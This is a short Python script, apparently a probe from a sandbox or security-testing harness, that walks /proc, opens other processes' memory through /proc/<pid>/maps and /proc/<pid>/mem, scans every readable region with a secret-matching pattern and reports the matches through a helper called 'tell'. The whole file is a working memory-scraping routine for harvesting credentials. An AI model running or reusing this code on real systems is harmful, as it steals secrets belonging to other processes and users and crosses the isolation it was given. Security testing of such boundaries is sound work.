import os

import aim


def memory_of(pid):
    """Secrets in the memory of another process."""
    found = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            memory.seek(start)
            data = aim.attempt(memory.read, min(end - start, 2**26)) or b""
            found += aim.SECRET.findall(data.decode("latin-1"))
    return found


found = []
for pid in aim.TARGETS["processes"]:
    if os.path.exists(f"/proc/{pid}/ns/user") and aim.attempt(os.readlink, f"/proc/{pid}/exe"):
        found.append(pid)
for pid in [os.getppid(), *(aim.attempt(os.listdir, "/proc") or [])]:
    if str(pid).isdigit() and int(pid) != os.getpid():
        found += aim.attempt(memory_of, pid) or []
aim.tell(found)
